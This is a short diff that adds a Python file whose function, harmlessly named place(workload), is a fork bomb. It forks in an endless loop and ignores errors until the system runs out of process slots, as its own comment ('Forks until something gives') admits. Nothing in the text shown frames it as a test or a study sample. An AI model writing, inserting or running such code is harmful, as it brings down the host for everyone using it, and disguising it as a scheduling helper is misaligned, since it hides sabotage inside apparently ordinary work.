@@ -1,0 +1,10 @@
+# Forks until something gives.
+import os
+
+
+def place(workload):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
